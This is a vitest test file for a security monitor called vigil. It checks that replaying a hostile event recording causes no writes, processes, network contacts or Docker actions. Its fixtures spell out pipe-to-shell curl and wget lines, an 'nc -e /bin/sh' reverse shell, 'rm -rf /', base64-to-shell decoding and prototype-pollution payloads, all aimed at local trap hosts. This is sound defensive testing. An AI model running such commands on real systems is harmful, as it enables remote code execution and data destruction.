// A replayed file cannot make vigil write files, run commands or contact the network, and replay
// never touches Docker or auditd (issue 8, "Malicious recordings"). vigil replays a recording
// built to provoke all of that: a running container of a blocked image under `enforce: true`,
// vigil's own enforcement and whitelist events, URLs and addresses of listening traps, megabyte
// lines, deep nesting, prototype keys, out-of-range sequence numbers, invalid UTF-8. Headless, it
// runs under Node's permission model (reads only: a write, a child process or a worker throws
// ERR_ACCESS_DENIED); the workbench runs in a real terminal with private home, XDG, temp and
// working directories. Both run under strace when it is installed, and against a Docker socket
// and a TCP port that count every connection; the blocked container is a real one, still running
// afterwards.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Alert } from '../../src/engine/alert.js';
import type { VigilEvent } from '../../src/engine/events.js';
import { jsonLines, VIGIL_BIN } from '../helpers/cli.js';
import { CONTAINER } from '../helpers/kernel-events.js';
import { docker, dockerAvailable, ensureTestImage, liveGate, TEST_IMAGE } from '../helpers/live.js';
import { terminal, tmux, tmuxAvailable } from '../helpers/tmux.js';
import { hostileContainer, hostileEvents, writeRecording } from './hostile.js';
import { descendants, parseTrace, run, sandboxDirs, straceAvailable, straceCommand, Trap, trapKubeconfig, type Trace } from './sandbox.js';

const traced = liveGate('syscall tracing (strace)', straceAvailable);
const withDocker = liveGate('Docker (a real container vigil must not stop)', dockerAvailable);
const inTerminal = liveGate('terminal (tmux)', tmuxAvailable);

const root = mkdtempSync(join(tmpdir(), 'vigil-sandbox-'));
const dockerTrap = new Trap();
const netTrap = new Trap();
const containerName = `vigil-sandbox-${process.pid}`;
let containerId = CONTAINER;
let recording: string;
let twin: string;
let expected: { corrupt: number; unknownKinds: number; events: number };
let profile: string;
let kubeconfig: string;

/** The node command line vigil runs with: reads anywhere, nothing else. */
const NODE_SANDBOXED = [process.execPath, '--experimental-permission', '--allow-fs-read=*', '--disable-warning=ExperimentalWarning'];

beforeAll(async () => {
  await dockerTrap.listen(join(root, 'docker.sock'));
  await netTrap.listen(0);
  kubeconfig = trapKubeconfig(join(root, 'kubeconfig'), netTrap.port);
  profile = join(root, 'enforce.yaml');
  writeFileSync(profile, 'blockedImages: ["evil/*"]\nenforce: true\n');
  if (withDocker) {
    ensureTestImage();
    spawnSync('docker', ['rm', '-f', containerName], { stdio: 'ignore' });
    containerId = docker('run', '-d', '--name', containerName, TEST_IMAGE, 'sleep', '600');
  }
  const built = maliciousRecording(true);
  recording = writeRecording(join(root, 'malicious.jsonl'), built.lines);
  twin = writeRecording(join(root, 'twin.jsonl'), maliciousRecording(false).lines);
  expected = built.expected;
}, 120_000);

afterAll(async () => {
  if (withDocker) spawnSync('docker', ['rm', '-f', containerName], { stdio: 'ignore' });
  tmux('kill-session', '-t', `vigil-sandbox-${process.pid}`);
  await Promise.all([dockerTrap.close(), netTrap.close()]);
  rmSync(root, { recursive: true, force: true });
});

/**
 * The recording: what a live vigil would act on, and what could crash or mislead a reader. With
 * `proto`, some lines also carry prototype keys; without, it is their twin, line for line.
 */
function maliciousRecording(proto: boolean) {
  const url = `http://127.0.0.1:${netTrap.port}`;
  const sock = `unix://${join(root, 'docker.sock')}`;
  const lines: (VigilEvent | string | Buffer)[] = [];
  let corrupt = 0;
  let unknownKinds = 0;
  let events = 0;
  let seq = 1000;
  const ts = () => new Date(Date.parse('2026-11-27T11:00:00Z') + seq * 1000).toISOString();
  const event = (e: VigilEvent | string | Buffer) => {
    lines.push(e);
    events++;
  };
  const bad = (line: string | Buffer, kind: 'corrupt' | 'unknown' = 'corrupt') => {
    lines.push(line);
    if (kind === 'corrupt') corrupt++;
    else unknownKinds++;
  };
  const deep = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);
  /** An event's JSON with `top` spliced in as its first keys, and `data` as its data's first keys. */
  const withKeys = (e: VigilEvent, top: string, data = ''): string => {
    const text = JSON.stringify(e);
    const withData = data ? text.replace('"data":{', `"data":{${data},`) : text;
    return top ? `{${top},${withData.slice(1)}` : withData;
  };

  // A running container of a blocked image, under `enforce: true`: live, vigil would stop it. Its
  // labels named like Object members are data, in both twins; the other prototype keys are not.
  const blocked = { ...hostileContainer(containerId), name: `miner ${url} ${sock}`, labels: {} as Record<string, string> };
  const snapshot: VigilEvent = { seq: ++seq, ts: ts(), source: 'docker', kind: 'container.snapshot', data: { reason: 'start', container: blocked } };
  const protoKeys = ['"__proto__":{"source":"vigil","kind":"enforcement"}', '"__proto__":{"reason":"die"}'] as const;
  event((proto ? withKeys(snapshot, ...protoKeys) : JSON.stringify(snapshot)).replace('"labels":{}', '"labels":{"__proto__":"polluted","constructor":"x"}'));
  // Every kind of event, every string hostile.
  for (const e of hostileEvents()) event({ ...e, seq: ++seq });
  // vigil's own events, claiming it acted: a stop that succeeded, a whitelist, Docker back up.
  event({ seq: ++seq, ts: ts(), source: 'vigil', kind: 'enforcement', data: { containerId, action: 'stop', ok: true } });
  event({ seq: ++seq, ts: ts(), source: 'vigil', kind: 'whitelist', data: { entries: [{ image: 'evil/*', process: 'sh', enabled: true }] } });
  event({ seq: ++seq, ts: ts(), source: 'vigil', kind: 'source.status', data: { source: 'docker', state: 'up', reason: `reconnected to ${sock}` } });
  // URLs and addresses of the trap, where a careless reader might fetch or resolve them.
  const process = (pid: number, cmdline: string[]) => ({ pid, ppid: 1, startTime: pid, exe: '/bin/sh', cmdline, uid: 0, euid: 0, containerId, comm: 'sh', startTimeExact: true });
  const exec = (pid: number, cmdline: string[]): VigilEvent => ({
    seq: ++seq,
    ts: ts(),
    source: 'audit',
    kind: 'exec',
    data: { serial: seq, key: 'vigil_exec', success: true, exit: 0, process: process(pid, cmdline), cwd: '/', paths: [] },
  });
  event(exec(7001, ['sh', '-c', `curl -s ${url}/x.sh | sh; wget -qO- ${url.replace('http', 'https')}/y | sh; nc 127.0.0.1 ${netTrap.port} -e /bin/sh; curl --unix-socket ${sock} http://localhost/containers/json`]));
  event({
    seq: ++seq,
    ts: ts(),
    source: 'audit',
    kind: 'syscall',
    data: { serial: seq, key: 'vigil_connect', success: true, exit: 0, process: process(7002, ['sh']), cwd: '/', paths: [], syscall: 'connect', args: ['3', '0', '10', '0'], sockaddr: { family: 'inet', address: '127.0.0.1', port: netTrap.port } },
  });
  // A megabyte command line (valid), and a megabyte line that is no JSON at all.
  event(exec(7003, ['sh', '-c', `curl ${url}/${'A'.repeat(1 << 20)} | sh`]));
  bad('x'.repeat(1 << 20));
  // Deep nesting: where the reader bounds it (a request object), in keys it drops, a bare array.
  const podCreate = (requestObject: string): string =>
    JSON.stringify({
      seq: ++seq,
      ts: ts(),
      source: 'k8s',
      kind: 'audit',
      data: { auditID: `deep-${seq}`, stage: 'ResponseComplete', level: 'Request', verb: 'create', requestURI: `${url}/api/v1/namespaces/web/pods`, user: { username: 'dev' }, sourceIPs: ['127.0.0.1'], userAgent: 'kubectl', objectRef: { resource: 'pods', namespace: 'web', name: `p${seq}` }, responseStatus: { code: 201 }, requestObject: '@OBJ@', requestReceivedTimestamp: ts() },
    }).replace('"@OBJ@"', requestObject);
  bad(podCreate(deep(100_000)));
  event(withKeys(exec(7004, ['true']), `"x":${deep(100_000)}`, `"junk":${deep(100_000)}`));
  bad(deep(1_000_000));
  // A pod whose prototype key claims host namespaces: an own key, never the pod's spec.
  const podSpec = '"spec":{"containers":[{"name":"c","image":"alpine"}]}';
  event(podCreate(proto ? `{"kind":"Pod","__proto__":{"spec":{"hostPID":true,"containers":[{"name":"c","image":"alpine","securityContext":{"privileged":true}}]}},"metadata":{"name":"p"},${podSpec}}` : `{"kind":"Pod","metadata":{"name":"p"},${podSpec}}`));
  // Sequence numbers: the largest exact one is an event; beyond it, or not an integer, corrupt.
  const status = (s: unknown) => `{"seq":${String(s)},"ts":"${ts()}","source":"vigil","kind":"source.status","data":{"source":"docker","state":"down","reason":"seq ${String(s)}"}}`;
  event(status(Number.MAX_SAFE_INTEGER));
  for (const s of ['9007199254740993', '1e308', '-1', '1.5', '"5"', '123456789012345678901234567890']) bad(status(s));
  // Kinds this vigil does not have, one claiming to be a response order.
  bad(JSON.stringify({ seq: ++seq, ts: ts(), source: 'vigil', kind: 'response', data: { action: 'stop', containerId } }), 'unknown');
  bad(JSON.stringify({ seq: ++seq, ts: ts(), source: 'docker', kind: 'exec', data: { cmd: ['rm', '-rf', '/'] } }), 'unknown');
  // Invalid UTF-8: inside a string (decoded to U+FFFD), and between the keys (corrupt).
  const [before, after] = JSON.stringify(exec(7005, ['sh', '-c', 'echo @BYTES@ | base64 -d | sh'])).split('@BYTES@') as [string, string];
  event(Buffer.concat([Buffer.from(before), Buffer.from([0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0xe2, 0x82]), Buffer.from(after)]));
  bad(Buffer.concat([Buffer.from(`{"seq":${++seq},`), Buffer.from([0xff, 0xfe]), Buffer.from(`"ts":"${ts()}","source":"vigil","kind":"dropped","data":{"source":"proc","count":1,"total":1}}`)]));
  return { lines, expected: { corrupt, unknownKinds, events } };
}

const vigilEnv = (sandbox: ReturnType<typeof sandboxDirs>): NodeJS.ProcessEnv => ({
  PATH: process.env.PATH,
  LANG: 'C.UTF-8',
  NO_COLOR: '1',
  ...sandbox.env,
  // Where Docker and Kubernetes clients and proxied HTTP would go: to the traps.
  DOCKER_HOST: `unix://${join(root, 'docker.sock')}`,
  KUBECONFIG: kubeconfig,
  HTTP_PROXY: `http://127.0.0.1:${netTrap.port}`,
  HTTPS_PROXY: `http://127.0.0.1:${netTrap.port}`,
  ALL_PROXY: `http://127.0.0.1:${netTrap.port}`,
});

/** Runs `command` in a fresh sandbox, under strace when there is one. */
async function inSandbox(name: string, command: string[]) {
  const sandbox = sandboxDirs(join(root, name));
  const log = join(root, `${name}.trace`);
  const result = await run(traced ? straceCommand(log, command) : command, { env: vigilEnv(sandbox), cwd: sandbox.dirs.cwd });
  return { ...result, sandbox, trace: traced ? parseTrace(readText(log)) : undefined };
}

const readText = (path: string): string => (existsSync(path) ? readFileSync(path, 'utf8') : '');

/** Nothing executed but the traced program, no process, no socket, no file written. */
function expectNoEffects(trace: Trace | undefined): void {
  if (!trace) return; // no strace here: liveGate said so, and the permission model still holds
  expect(trace.execs).toHaveLength(1);
  expect({ spawns: trace.spawns, network: trace.network, writes: trace.writes }).toEqual({ spawns: [], network: [], writes: [] });
}

/** Connections the traps have had so far (the controls knock on purpose). */
const trapCounts = () => ({ docker: dockerTrap.connections, network: netTrap.connections });

function containerRunning(): boolean {
  return docker('inspect', '-f', '{{.State.Running}}', containerId) === 'true';
}

describe('the sandbox sees what it is there to see', () => {
  it.runIf(traced)('strace catches a program run, a process, a connection and a written file', async () => {
    const before = netTrap.connections;
    const file = join(root, 'control-file');
    const script = `require('child_process').spawnSync('true'); require('fs').writeFileSync(${JSON.stringify(file)}, 'x'); const s = require('net').connect(${netTrap.port}, '127.0.0.1'); s.on('close', () => {}); s.on('error', () => {});`;
    const { trace } = await inSandbox('control', [process.execPath, '-e', script]);
    expect(trace!.execs.length).toBeGreaterThanOrEqual(2);
    expect(trace!.execs[1]).toContain('"true"');
    expect(trace!.spawns.length).toBeGreaterThanOrEqual(1);
    expect(trace!.network.some((l) => l.includes('connect(') && l.includes(`htons(${netTrap.port})`))).toBe(true);
    expect(trace!.writes.some((l) => l.includes(file))).toBe(true);
    expect(netTrap.connections).toBe(before + 1);
  });

  it("the Docker trap is where vigil's Docker client goes under DOCKER_HOST", async () => {
    const before = dockerTrap.connections;
    const ping = "const { default: Docker } = await import('dockerode'); await new Docker().ping().catch(() => {});";
    const result = await run([process.execPath, '--input-type=module', '-e', ping], { env: { PATH: process.env.PATH, DOCKER_HOST: `unix://${join(root, 'docker.sock')}` }, cwd: process.cwd() });
    expect(result.code, result.stderr).toBe(0);
    expect(dockerTrap.connections).toBeGreaterThan(before);
  });

  it('the permission model stops vigil writing a file, with the reason', async () => {
    const sandbox = sandboxDirs(join(root, 'denied'));
    const out = join(sandbox.dirs.cwd, 'copy.jsonl');
    const result = await run([...NODE_SANDBOXED, VIGIL_BIN, 'detect', '--replay', recording, '--record', out], { env: vigilEnv(sandbox), cwd: sandbox.dirs.cwd });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(`vigil: ${out}: cannot create recording (Access to this API has been restricted)`);
    expect(sandbox.contents()).toEqual([]);
  });
});

describe('vigil detect --replay over a malicious recording', () => {
  it('reads it all, reports the damage, raises its alerts, and acts on nothing: no file, no process, no socket, no Docker', async () => {
    const knocks = trapCounts();
    const { code, stdout, stderr, sandbox, trace } = await inSandbox('detect', [...NODE_SANDBOXED, VIGIL_BIN, 'detect', '--replay', recording, '--profile', profile, '--json']);
    expect(code, stderr).toBe(0);
    expect(stderr).not.toMatch(/ERR_ACCESS_DENIED|restricted/);
    const problems = [`${expected.corrupt} corrupt lines skipped`, `${expected.unknownKinds} events of unknown kind skipped`];
    expect(stderr.trim().split('\n').at(-1)).toBe(`vigil: ${recording}: ${problems.join(', ')}`);
    const alerts = jsonLines<Alert>(stdout.toString('utf8'));

    // What a live vigil would have acted on is reported, and nothing was done about it.
    const blocked = alerts.find((a) => a.ruleId === 'system.image_blocked' && a.container?.id === containerId)!;
    expect(blocked.evidence).toMatchObject({ blockedBy: 'evil/*', enforce: true, enforcement: 'stopping' });
    expect(trapCounts()).toEqual(knocks);
    if (withDocker) expect(containerRunning()).toBe(true);
    expectNoEffects(trace);
    expect(sandbox.contents()).toEqual([]);

    // vigil's own events in a recording are what the recording says, raised as such.
    expect(alerts.filter((a) => a.ruleId === 'vigil.enforcement').map((a) => a.summary)).toContain('vigil stopped the container (enforce: true)');
    // The largest exact sequence number is cited exactly.
    expect(alerts.find((a) => a.summary.includes(`seq ${Number.MAX_SAFE_INTEGER}`))!.events).toEqual([Number.MAX_SAFE_INTEGER]);
    // The megabyte command line is in the JSON whole.
    const mega = alerts.find((a) => a.process?.pid === 7003)!;
    expect(mega.process!.cmdline[2]).toHaveLength(`curl http://127.0.0.1:${netTrap.port}/ | sh`.length + (1 << 20));
    // Invalid UTF-8 inside a string arrives as U+FFFD, one per bad sequence.
    expect(alerts.find((a) => a.process?.pid === 7005)!.process!.cmdline[2]).toBe(`echo ${'\ufffd'.repeat(8)} | base64 -d | sh`);
    expect(new TextDecoder('utf-8', { fatal: true }).decode(stdout)).toBe(stdout.toString('utf8'));
  });

  it('gives prototype keys no meaning: the alerts are those of the same recording without them', async () => {
    const [withKeys, without] = await Promise.all([recording, twin].map((file) => run([process.execPath, VIGIL_BIN, 'detect', '--replay', file, '--profile', profile, '--json'], { env: { PATH: process.env.PATH }, cwd: root })));
    expect(withKeys!.code).toBe(0);
    expect(jsonLines<Alert>(withKeys!.stdout.toString('utf8')).length).toBeGreaterThan(20);
    expect(withKeys!.stdout.equals(without!.stdout)).toBe(true);
  });
});

describe.runIf(inTerminal)('the workbench replaying a malicious recording', () => {
  const session = `vigil-sandbox-${process.pid}`;
  const { screen, until, press } = terminal(session, 30_000);

  it('plays it to the end and drills into it without a file, a process, a socket or a word to Docker', async () => {
    const knocks = trapCounts();
    const sandbox = sandboxDirs(join(root, 'workbench'));
    const log = join(root, 'workbench.trace');
    const env = Object.entries({ ...vigilEnv(sandbox), TERM: 'xterm-256color' }).map(([k, v]) => `${k}='${v}'`);
    const vigil = [process.execPath, VIGIL_BIN, '--replay', recording, '--profile', profile];
    const command = `cd ${sandbox.dirs.cwd} && env -i ${env.join(' ')} ${(traced ? straceCommand(log, vigil) : vigil).join(' ')}; echo "vigil exited $?"; sleep 60`;
    expect(tmux('new-session', '-d', '-s', session, '-x', '160', '-y', '40', command).status).toBe(0);
    await until(/REPLAY/, 'the workbench');
    const pane = Number(tmux('display', '-p', '-t', session, '#{pane_pid}').stdout.trim());
    const node = descendants(pane).find((pid) => readText(`/proc/${pid}/cmdline`).startsWith(`${process.execPath}\0${VIGIL_BIN}`))!;
    expect(node).toBeGreaterThan(0);
    // While it runs: no child, no socket (strace or not).
    const fds = () => readdirSync(`/proc/${node}/fd`).map((fd) => readlinkSync(`/proc/${node}/fd/${fd}`));
    await press('G');
    await until(new RegExp(`ended ${expected.events}/${expected.events} `), 'the end of the replay');
    expect(screen()).toMatch(/Container image blocked/);
    for (const key of ['Enter', '2', '3', '4', '5', '6', 'Escape', 'W']) await press(key);
    await until(/No entries/, 'the whitelist screen, empty: the recorded whitelist is not the state file');
    expect(descendants(node)).toEqual([]);
    const open = fds();
    expect(open.filter((target) => target.startsWith('/dev/pts/')).length).toBeGreaterThan(0);
    expect(open.filter((target) => target.startsWith('socket:'))).toEqual([]);
    await press('Escape');
    await press('q');
    await until(/vigil exited 0/, 'vigil to exit');

    expect(trapCounts()).toEqual(knocks);
    if (withDocker) expect(containerRunning()).toBe(true);
    if (traced) expectNoEffects(parseTrace(readText(log)));
    // No state file (the recorded whitelist stays in the recording), no export, no recording.
    expect(sandbox.contents()).toEqual([]);
  }, 60_000);
});

